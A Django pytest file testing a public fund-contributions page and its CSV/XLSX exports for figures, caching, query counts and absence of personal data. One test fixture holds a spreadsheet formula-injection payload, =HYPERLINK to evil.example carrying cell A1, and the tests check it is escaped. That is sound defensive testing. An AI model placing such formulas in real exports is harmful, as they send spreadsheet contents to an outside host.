"""The public contributions page and its files: open to everyone, in the
site's layout, served from the public-page cache, linked from the home, fund
and appeal pages; CSV and XLSX files of each table whose figures are the
page's, in which a donor's name is text; no personal data anywhere; a fixed
number of queries whatever the number of donors, receipts and grants."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from donors.models import Appeal, Donor
from donors.services.receipts import record_receipt
from fundmgr.money import Money
from tests.iati.conftest import DELEGATES, PRIVATE_DONOR
from tests.open_data.conftest import FORMULA_NAME

pytestmark = pytest.mark.django_db

TABLES = ["by-year", "by-donor", "transfers"]


def page_url(fund) -> str:
    return reverse("open-contributions", args=[fund.code])


def file_url(fund, table: str, kind: str) -> str:
    return reverse("open-contributions-file", args=[fund.code, table, kind])


def csv_rows(client, fund, table: str) -> list[list[str]]:
    response = client.get(file_url(fund, table, "csv"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_rows(client, fund, table: str) -> list[tuple]:
    response = client.get(file_url(fund, table, "xlsx"))
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [tuple(cell.value for cell in row) for row in sheet.iter_rows()]


def everything_public(client, fund) -> str:
    """The page and every file, as text."""
    texts = [client.get(page_url(fund)).content.decode()]
    for table in TABLES:
        texts.append(client.get(file_url(fund, table, "csv")).content.decode("utf-8-sig"))
        texts.extend(str(value) for row in xlsx_rows(client, fund, table) for value in row)
    return "\n".join(texts)


def test_anyone_sees_the_page_in_the_site_layout_with_accessible_tables(client, open_books):
    fund = open_books.books.pledge.fund

    response = client.get(page_url(fund))

    assert response.status_code == 200
    page = response.content.decode()
    assert '<a class="skip-link"' in page  # the site's layout
    assert page.count("<caption>") == 3
    assert '<th scope="col">Year</th>' in page
    assert '<th scope="row">Nepal</th>' in page
    # Amounts as the other pages write them (the money filter).
    assert "$11,363.64" in page and "$26,172.98" in page and "$7,500.00" in page
    # The formula-like name is escaped text.
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;Thanks&quot;)" in page


def test_the_csv_files_hold_the_page_s_figures_as_decimal_text(client, open_books):
    fund = open_books.books.pledge.fund

    by_donor = csv_rows(client, fund, "by-donor")
    transfers = csv_rows(client, fund, "transfers")
    by_year = csv_rows(client, fund, "by-year")

    assert by_donor[0] == ["Donor", "Committed (USD)", "Deposited (USD)", "Outstanding (USD)"]
    assert by_donor[2:] == [
        ["Kingdom of the Netherlands (test)", "13863.64", "9318.18", "4545.46"],
        ["Other donors", "3300.33", "1820.13", "1980.20"],
    ]
    assert transfers[1:] == [
        ["BT", "Bhutan", "2500.00", "0.00", "0.00"],
        ["NP", "Nepal", "5000.00", "4000.00", "3600.00"],
    ]
    assert by_year[-1] == ["2020", "Kingdom of the Netherlands (test)", "2500.00", "2500.00"]


def test_the_xlsx_files_hold_the_page_s_figures_as_numbers(client, open_books):
    fund = open_books.books.pledge.fund

    rows = xlsx_rows(client, fund, "by-year")

    assert rows[0] == ("Year", "Donor", "Commitments (USD)", "Deposits (USD)")
    assert rows[2] == (2019, "Kingdom of the Netherlands (test)", 11363.64, 6818.18)
    assert rows[4] == (2020, "Kingdom of the Netherlands (test)", 2500, 2500)
    assert str(rows[-1][0]).startswith("Test trust fund, from its first transaction to")


def test_a_donor_named_like_a_formula_comes_out_as_text_in_both_files(client, open_books):
    fund = open_books.books.pledge.fund

    csv_name = csv_rows(client, fund, "by-donor")[1][0]
    response = client.get(file_url(fund, "by-donor", "xlsx"))
    cell = load_workbook(io.BytesIO(response.content)).active["A2"]

    assert csv_name == "'" + FORMULA_NAME
    assert (cell.value, cell.data_type) == (FORMULA_NAME, "s")


def test_no_personal_data_reaches_the_page_or_any_file(client, open_books):
    text = everything_public(client, open_books.books.pledge.fund)

    secrets = [value for delegate in DELEGATES for value in delegate]
    secrets += [*PRIVATE_DONOR, "Quiet Foundation", "q@example.org", "nl@example.org"]
    secrets += ["f@example.org"]
    assert [secret for secret in secrets if secret in text] == []


@pytest.mark.parametrize(
    "address",
    [
        "/funds/NOPE/contributions/",
        "/funds/NOPE/contributions/by-year.csv",
        "/funds/TESTF/contributions/nothing.csv",
        "/funds/TESTF/contributions/by-year.pdf",
    ],
)
def test_an_unknown_fund_table_or_format_is_not_found(client, fund, address):
    assert client.get(address).status_code == 404


def test_the_page_is_linked_from_the_home_fund_and_appeal_pages(client, fund):
    Appeal.objects.create(
        fund=fund, slug="ldc", title="LDC travel", purpose="Travel.",
        target=Money("1000", "USD"),
    )  # fmt: skip
    link = f'href="{page_url(fund)}"'

    for address in ["/", reverse("fund-detail", args=[fund.code]), reverse("appeal", args=["ldc"])]:
        assert link in client.get(address).content.decode(), address


def _more_books(open_books, admin_user, make_grant, walk) -> None:
    """Three more donors, each with a receipt, and two more grants."""
    fund = open_books.books.pledge.fund
    for number in range(3):
        donor = Donor.objects.create(
            name=f"Donor {number}", kind="ngo", email=f"d{number}@example.org",
            listed_publicly=number % 2 == 0,
        )  # fmt: skip
        record_receipt(
            fund=fund, donor=donor, amount=Money("100", "USD"),
            value_date=datetime.date(2019, 3, 28), by=admin_user, notify=False,
        )  # fmt: skip
    for country in ["HT", "SN"]:
        grant = make_grant(name=f"Extra Delegate {country}", country=country, cost=Decimal("2000"))
        walk(grant, "committed")


QUERIES_PER_PAGE = 7  # the fund, then reports.open_data's six
QUERIES_PER_FILE = 7


def test_the_page_and_files_run_a_fixed_number_of_queries_whatever_their_size(
    client, open_books, admin_user, make_grant, walk, django_assert_num_queries
):
    fund = open_books.books.pledge.fund
    for grow in [False, True]:
        if grow:
            _more_books(open_books, admin_user, make_grant, walk)
        with django_assert_num_queries(QUERIES_PER_PAGE):
            assert client.get(page_url(fund)).status_code == 200
        for kind in ["csv", "xlsx"]:
            with django_assert_num_queries(QUERIES_PER_FILE):
                assert client.get(file_url(fund, "by-donor", kind)).status_code == 200
    assert len(csv_rows(client, fund, "by-donor")) == 1 + 3 + 2  # two more named donors


def test_the_page_is_served_from_the_cache_until_what_it_shows_changes(
    client, open_books, settings, admin_user, django_capture_on_commit_callbacks
):
    settings.FUNDMGR_PUBLIC_PAGE_SECONDS = 60
    fund = open_books.books.pledge.fund
    client.get(page_url(fund))

    with CaptureQueriesContext(connection) as queries:
        cached = client.get(page_url(fund)).content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        record_receipt(
            fund=fund, donor=open_books.formula, amount=Money("1000", "USD"),
            value_date=datetime.date(2019, 3, 29), by=admin_user, notify=False,
        )  # fmt: skip
    fresh = client.get(page_url(fund)).content.decode()

    assert len(queries) == 0
    assert "$11,138.31" in cached
    assert "$12,138.31" in fresh
